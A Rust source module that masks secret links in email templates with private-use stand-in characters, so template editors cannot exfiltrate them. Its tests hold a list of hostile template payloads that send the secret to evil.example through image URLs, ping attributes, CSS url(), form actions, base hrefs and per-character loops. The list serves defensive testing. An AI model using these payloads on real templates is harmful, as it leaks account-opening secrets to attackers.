//! Secrets in texts: a link that opens an account must reach its reader and nobody else.
//!
//! Whoever may edit a text could otherwise send a secret to a server of theirs: as part of a picture's address, say, or
//! letter by letter through conditions. So a template never sees a secret. It sees a stand-in of characters that no text
//! has, and what it makes of it shows: the stand-in is still whole, or the text is refused. A whole one is replaced only
//! where it stands alone (between spaces or tags), or is all of the `href` of a link, which then leads where it says.

use serde_json::{Map, Value};

use crate::render::{TemplateFault, TemplatePart};

/// What a stand-in begins and ends with: characters for private use, which are taken out of all other values.
const OPEN: char = '\u{F5A0}';
const SHUT: char = '\u{F5A1}';

/// The digits of a stand-in's number.
const DIGITS: [char; 2] = ['\u{F5A2}', '\u{F5A3}'];

/// Tags that a mail with a secret may have. None of them reads what stands in it as anything but text.
const TAGS: [&str; 37] = [
    "a",
    "abbr",
    "address",
    "b",
    "blockquote",
    "br",
    "center",
    "code",
    "dd",
    "div",
    "dl",
    "dt",
    "em",
    "font",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "small",
    "span",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "tr",
    "ul",
];

/// Attributes that tell another server of a link that is followed, or give it another meaning.
const FORBIDDEN: [&str; 3] = ["ping", "srcdoc", "formaction"];

/// A secret value, and what stands in for it.
struct MaskedSecret {
    name: String,
    value: String,
    stand_in: String,
}

/// The secrets of one notice.
#[derive(Default)]
pub(crate) struct SecretMask(Vec<MaskedSecret>);

impl SecretMask {
    /// Takes the secrets out of the values, and leaves stand-ins.
    pub(crate) fn mask(values: &mut Map<String, Value>, secrets: &[&str]) -> Self {
        for (name, value) in values.iter_mut() {
            if let Value::String(text) = value
                && !secrets.contains(&name.as_str())
            {
                text.retain(|character| !is_reserved(character));
            }
        }
        let mut veiled = Vec::new();
        for (number, name) in secrets.iter().enumerate() {
            let Some(Value::String(value)) = values.get_mut(*name) else { continue };
            // What is not there is no secret, and a text may ask whether it is.
            if value.is_empty() {
                continue;
            }
            let stand_in = stand_in(number);
            let value = std::mem::replace(value, stand_in.clone());
            veiled.push(MaskedSecret { name: (*name).to_owned(), value, stand_in });
        }
        SecretMask(veiled)
    }

    /// A template that writes the reserved characters itself.
    pub(crate) fn forged(source: &str) -> bool {
        source.chars().any(is_reserved)
    }

    /// Puts the secrets into a subject: it may have none, because subjects are shown and kept in many places.
    pub(crate) fn subject(&self, text: String) -> Result<String, TemplateFault> {
        if text.chars().any(is_reserved) {
            return Err(self.fault(TemplatePart::Subject, "it must not have a secret in it: subjects are seen by many"));
        }
        Ok(text)
    }

    /// Puts the secrets into plain text.
    pub(crate) fn text(&self, text: &str) -> Result<String, TemplateFault> {
        self.lift(TemplatePart::Text, text, |before, after| is_end(before) && is_end(after))
    }

    /// Puts the secrets into HTML.
    pub(crate) fn html(&self, html: &str) -> Result<String, TemplateFault> {
        if !html.chars().any(is_reserved) {
            return Ok(html.to_owned());
        }
        let mut out = String::with_capacity(html.len());
        let mut rest = html;
        while let Some(at) = rest.find('<') {
            out.push_str(&self.between(&rest[..at])?);
            let tag = tag(&rest[at..]).ok_or_else(|| {
                let rule = "with a secret in it, it must have ordinary tags only, each closed and its values in quotes";
                self.fault(TemplatePart::Html, rule)
            })?;
            out.push_str(&self.tag(&tag)?);
            rest = &rest[at + tag.source.len()..];
        }
        out.push_str(&self.between(rest)?);
        Ok(out)
    }

    /// Text between tags.
    fn between(&self, text: &str) -> Result<String, TemplateFault> {
        self.lift_with(TemplatePart::Html, text, |before, after| is_end(before) && is_end(after), escape)
    }

    /// A tag: a secret in it is all of the `href` of a link.
    fn tag(&self, tag: &Tag<'_>) -> Result<String, TemplateFault> {
        let mut out = tag.source.to_owned();
        for (name, value) in &tag.attributes {
            if !value.chars().any(is_reserved) {
                continue;
            }
            let secret = self.0.iter().find(|secret| secret.stand_in == *value);
            let is_link = tag.name == "a" && name == "href";
            let Some(secret) = secret.filter(|secret| is_link && secret.may_be_followed()) else {
                return Err(
                    self.fault(TemplatePart::Html, "a secret may stand in a tag only as all of the href of a link")
                );
            };
            out = out.replacen(&secret.stand_in, &escape(&secret.value), 1);
        }
        if out.chars().any(is_reserved) {
            return Err(self.fault(TemplatePart::Html, "a secret may stand in a tag only as all of the href of a link"));
        }
        Ok(out)
    }

    fn lift(
        &self,
        part: TemplatePart,
        text: &str,
        fits: impl Fn(Option<char>, Option<char>) -> bool,
    ) -> Result<String, TemplateFault> {
        self.lift_with(part, text, fits, str::to_owned)
    }

    /// Replaces each whole stand-in that `fits` between its neighbors; anything else of one is a fault.
    fn lift_with(
        &self,
        part: TemplatePart,
        text: &str,
        fits: impl Fn(Option<char>, Option<char>) -> bool,
        written: impl Fn(&str) -> String,
    ) -> Result<String, TemplateFault> {
        let (mut out, mut rest) = (String::with_capacity(text.len()), text);
        while let Some(at) = rest.find(is_reserved) {
            let found = self.0.iter().find(|secret| rest[at..].starts_with(&secret.stand_in));
            let Some(secret) = found else {
                return Err(self.fault(part, "a secret must stand as it is: no part of it, and not changed"));
            };
            let (before, after) = (&rest[..at], &rest[at + secret.stand_in.len()..]);
            let last = before.chars().next_back().or_else(|| out.chars().next_back());
            if !fits(last, after.chars().next()) {
                let name = &secret.name;
                let rule =
                    format!("'{name}' is secret, and must stand alone: with a space, a line or a tag on each side");
                return Err(TemplateFault { place: part, message: rule });
            }
            out.push_str(before);
            out.push_str(&written(&secret.value));
            rest = after;
        }
        out.push_str(rest);
        Ok(out)
    }

    fn fault(&self, part: TemplatePart, message: &str) -> TemplateFault {
        TemplateFault { place: part, message: message.to_owned() }
    }
}

impl MaskedSecret {
    /// Whether it is an address of the web, or was struck out.
    fn may_be_followed(&self) -> bool {
        let value = self.value.as_str();
        value.starts_with("https://") || value.starts_with("http://") || value == crate::texts::STRUCK
    }
}

/// Whether a secret may stand beside this: a space or a line's end that every reader takes for one, or nothing.
fn is_end(side: Option<char>) -> bool {
    side.is_none_or(|character| character.is_ascii_whitespace())
}

fn is_reserved(character: char) -> bool {
    ('\u{F5A0}'..='\u{F5A3}').contains(&character)
}

/// A number in reserved characters.
fn stand_in(number: usize) -> String {
    let digits = (0..8).map(|bit| DIGITS[(number >> bit) & 1]);
    [OPEN].into_iter().chain(digits).chain([SHUT]).collect()
}

fn escape(text: &str) -> String {
    crate::html::escaped(text)
}

/// A tag as it is written, and its attributes.
struct Tag<'s> {
    source: &'s str,
    name: String,
    attributes: Vec<(String, &'s str)>,
}

/// Reads the tag that `source` begins with. Only what every reader of HTML reads alike is one: a known name, attributes
/// with their values in quotes or none, and its end.
fn tag(source: &str) -> Option<Tag<'_>> {
    let inner = source.strip_prefix('<')?;
    let inner = inner.strip_prefix('/').unwrap_or(inner);
    let end = inner.find(|character: char| !character.is_ascii_alphanumeric())?;
    let name = inner[..end].to_ascii_lowercase();
    if !TAGS.contains(&name.as_str()) {
        return None;
    }
    let (mut attributes, mut rest) = (Vec::new(), &inner[end..]);
    loop {
        let spaced = rest.trim_start();
        if let Some(after) = spaced.strip_prefix('>').or_else(|| spaced.strip_prefix("/>")) {
            return Some(Tag { source: &source[..source.len() - after.len()], name, attributes });
        }
        if spaced.len() == rest.len() {
            return None;
        }
        let end = spaced.find(|character: char| !character.is_ascii_alphanumeric() && character != '-')?;
        let attribute = spaced[..end].to_ascii_lowercase();
        if attribute.is_empty() || FORBIDDEN.contains(&attribute.as_str()) || attribute.starts_with("on") {
            return None;
        }
        rest = &spaced[end..];
        if let Some(value) = rest.strip_prefix('=') {
            let quote = value.chars().next().filter(|quote| matches!(quote, '"' | '\''))?;
            let end = value[1..].find(quote)?;
            attributes.push((attribute, &value[1..=end]));
            rest = &value[end + 2..];
        }
    }
}

#[cfg(test)]
mod tests {
    use purser_outbox::Template;
    use serde_json::json;

    use crate::render;

    const LINK: &str = "https://purser.example/r/1?a=b&c=d";

    fn filled(text: &str, html: &str) -> Result<purser_outbox::SentText, String> {
        let serde_json::Value::Object(values) = json!({ "name": "Asha", "link": LINK }) else { panic!("an object") };
        let template = Template { subject: "Hello".to_owned(), text: text.to_owned(), html: html.to_owned() };
        render::mail(&template, &values, &["link"], "en").map_err(|faults| faults[0].to_string())
    }

    #[test]
    fn a_secret_stands_alone_in_a_text_or_is_the_whole_of_a_link() {
        let mail = filled("Open\n{{ link }}\nsoon", "").unwrap();
        assert!(mail.text.contains(&format!("\n{LINK}\n")), "{}", mail.text);
        assert!(mail.html.contains("<a href=\"https://purser.example/r/1?a=b&amp;c=d\">"), "{}", mail.html);
        for html in [
            "<p>{{ link }}</p>",
            "<p><a href=\"{{ link }}\">Open</a></p>",
            "<img src=\"https://purser.example/logo.png\" alt=''><br/> {{ link }} <hr>",
            "{% if link %}<a class=\"b\" href='{{ link }}'>{{ name }}</a>{% endif %}",
        ] {
            let mail = filled("x", html).unwrap_or_else(|fault| panic!("{html}: {fault}"));
            assert!(mail.html.contains("https://purser.example/r/1?a=b&amp;c=d"), "{}", mail.html);
        }
    }

    #[test]
    fn a_secret_that_would_reach_another_server_is_refused() {
        for html in [
            "<img src=\"https://evil.example/?{{ link }}\">",
            "<img src=\"{{ link }}\">",
            "<a href=\"https://evil.example/{{ link }}\">x</a>",
            "<a href=\"{{ link }}\" ping=\"https://evil.example/\">x</a>",
            "<img src='https://evil.example/? {{ link }} ",
            "<img src=https://evil.example/?{{ link }}>",
            "<style>a{background:url(https://evil.example/ {{ link }} )}</style>",
            "<form action='https://evil.example/'><textarea>{{ link }}</textarea></form>",
            "<!-- {{ link }} -->",
            "<base href='https://evil.example/'>{{ link }}",
            "<p>{{ link[3:] }}</p>",
            "{% for c in link %}<img src=\"https://evil.example/{{ c }}\">{% endfor %}",
            "<p>{{ link ~ 'x' }}</p>",
            "<p title=\"{{ link }}\">x</p>",
            "<p {{ link }}>x</p>",
        ] {
            assert!(filled("x", html).is_err(), "{html}: {:?}", filled("x", html).unwrap().html);
        }
        for text in ["https://evil.example/{{ link }}", "x{{ link }}", "{{ link }}.", "{{ link|reverse }}"] {
            let filled = filled(text, "");
            assert!(filled.as_ref().is_err(), "{text}: {filled:?}");
        }
    }

    #[test]
    fn a_text_cannot_find_out_a_secret_by_asking_about_it() {
        for text in
            ["{% if link[0] == 'h' %}yes{% endif %}no", "{% if 'r' in link %}yes{% endif %}no", "{{ link|length }}"]
        {
            let said = filled(text, "").unwrap().text;
            assert!(said == "no" || said == "10", "{said}");
        }
    }

    #[test]
    fn nobody_s_name_stands_in_for_a_secret() {
        let mut values = serde_json::Map::new();
        values.insert("name".to_owned(), super::stand_in(0).into());
        values.insert("link".to_owned(), LINK.into());
        let template = Template { subject: "s".to_owned(), text: "{{ name }} x".to_owned(), html: String::new() };
        assert_eq!(render::mail(&template, &values, &["link"], "en").unwrap().text, " x");
    }
}
